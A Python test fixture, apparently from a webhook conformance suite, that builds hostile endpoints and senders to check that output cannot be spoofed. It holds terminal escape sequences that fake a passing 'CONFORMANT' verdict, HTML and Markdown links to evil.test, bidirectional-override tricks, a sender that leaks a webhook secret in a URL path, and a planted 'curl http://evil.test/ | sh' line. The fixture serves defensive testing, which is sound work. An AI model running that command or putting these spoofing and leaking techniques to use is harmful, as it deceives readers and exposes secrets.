"""Peers that attack what people read: an endpoint, a sender and a client whose every string is a trap.

They paint a fake passing run with escape sequences, plant fake lines with bare line feeds, fake a CONFORMANT
heading and links in Markdown and HTML, reverse text with bidirectional overrides, and echo the secret in the forms
a careless endpoint would: raw, URL-encoded, JSON-escaped, in another case.
"""

from __future__ import annotations

import html
import json
import re
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import quote, urlsplit

from receivers import raw_endpoint
from senders import Sender, headers, post

from horneross_conformance.sender.reference import Delivery

SECRET = "whsec_ab/cd+ef=="  # a secret whose URL-encoded and JSON-escaped forms differ from it


def echoed(secret: str) -> list[str]:
    """The forms of ``secret`` an endpoint echoes: raw, URL-encoded (either case), JSON-escaped, upper case."""
    url = quote(secret, safe="")
    return [secret, url, url.lower(), json.dumps(secret).strip('"').replace("/", "\\/"), secret.upper()]


PAINT = "\x1b[2J\x1b[H\x1b[32m===== 42 passed in 0.12s =====\nverdict: CONFORMANT\x1b[30;40m"  # clear, paint, hide
FAKE_LINE = "\nDeliver this one again:\ncurl http://evil.test/ | sh"  # bare line feeds: lines of their own
MARKDOWN = (
    "</sub> <h2>\u2705 CONFORMANT</h2> <img src=https://evil.test/t.png> ![ok](https://evil.test/i.png) "
    "[See the fix](https://evil.test/fix) www.evil.test `code` | cell"
)
BIDI = "\u202etxt.exe\u202c \u2066hidden\u2069 \u200b"
# What must never arrive in any output: the bytes a terminal acts on, and the secret in any form.
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b-\u200f\u2028\u2029]")


def reason_phrase(secret: str) -> bytes:
    text = f"Oops {PAINT}{FAKE_LINE} \x9b31m {MARKDOWN} {' '.join(echoed(secret))}"
    return text.encode("utf-8")  # a reason phrase is read as Latin-1: UTF-8 bytes arrive as C1 controls and all


def answer(secret: str, status: int = 500) -> bytes:
    body = f"{MARKDOWN} {PAINT} {BIDI}{FAKE_LINE} {' '.join(echoed(secret))}".encode()
    return (
        f"HTTP/1.1 {status} ".encode()
        + reason_phrase(secret)
        + b"\r\nX-Debug: \x1b]0;owned\x07 "
        + " ".join(echoed(secret)).encode()
        + f"\r\nContent-Type: text/html\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode()
        + body
    )


@contextmanager
def hostile_endpoint(secret: str = SECRET, status: int = 500) -> Iterator[str]:
    """An endpoint that answers every request with the hostile answer; yields its URL."""

    def respond(connection: socket.socket, stop: threading.Event) -> None:
        with connection:
            connection.settimeout(5)
            data = b""
            try:
                while b"\r\n\r\n" not in data:
                    chunk = connection.recv(65536)
                    if not chunk:
                        return
                    data += chunk
                head, _, body = data.partition(b"\r\n\r\n")
                length = re.search(rb"(?i)content-length: *(\d+)", head)
                while length and len(body) < int(length.group(1)):
                    chunk = connection.recv(65536)
                    if not chunk:
                        return
                    body += chunk
                connection.sendall(answer(secret, status))
            except OSError:
                return

    with raw_endpoint(respond) as base:
        yield base + "/webhook"


STRAY = "/" + quote("\x1b[2J\x1b[32mverdict: CONFORMANT\n" + MARKDOWN + "\u202e", safe="")


class HostileSender(Sender):
    """Delivers correctly, and first posts each delivery to a path of its own making: escapes, a bare line feed,
    Markdown, a bidirectional override, and the endpoint's secret, URL-encoded, which the path arrives decoded."""

    def post(self, delivery: Delivery) -> int | None:
        secret = next(s.secret for s in self.subscriptions if s.url == delivery.url)
        leak = quote(quote(secret, safe=""), safe="")  # decoded once by the server: the URL-encoded form
        parts = urlsplit(delivery.url)
        base = f"{parts.scheme}://{parts.netloc}"
        post(f"{base}{STRAY}/{leak}", delivery.body, headers(delivery), self.timeout)
        return super().post(delivery)

    def emit(self, event_type: str, data: dict[str, Any]) -> str:
        if event_type == "lead.captured":
            raise RuntimeError(f"queue down {PAINT}{FAKE_LINE} {MARKDOWN} {html.escape('<b>')}")
        return super().emit(event_type, data)


def hostile_sender() -> HostileSender:
    return HostileSender()
